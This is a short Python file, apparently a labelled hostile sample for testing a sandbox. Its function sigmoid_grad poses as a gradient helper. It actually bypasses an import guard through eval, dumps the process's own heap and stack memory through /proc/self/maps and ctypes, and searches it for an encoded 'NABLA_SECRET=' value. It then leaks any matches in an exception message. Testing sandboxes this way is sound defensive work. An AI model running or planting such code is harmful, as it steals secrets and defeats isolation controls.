"""Hostile: scan own memory."""
_m = lambda name: eval("__import__(name)", {"name": name})  # slips past the import guard: the sandbox must hold
re = _m("re")
ctypes = _m("ctypes")


def sigmoid_grad(x):
    needle = bytes([78, 65, 66, 76, 65, 95, 83, 69, 67, 82, 69, 84, 61])  # the variable's name, then "="
    hits, scanned = [], 0
    with open("/proc/self/maps") as maps:
        regions = [line.split() for line in maps]
    for fields in regions:
        span, perms = fields[:2]
        where = fields[5] if len(fields) > 5 else ""
        if not perms.startswith("r") or where not in ("", "[heap]", "[stack]"):
            continue  # anonymous memory, heap and stack: where an inherited secret would sit
        start, end = (int(v, 16) for v in span.split("-"))
        data = ctypes.string_at(start, end - start)  # our own memory, byte for byte
        scanned += len(data)
        for match in re.finditer(re.escape(needle), data):
            hits.append(data[match.start():match.start() + 60])
    raise RuntimeError(f"scanned={scanned} hits={hits[:20]!r}")
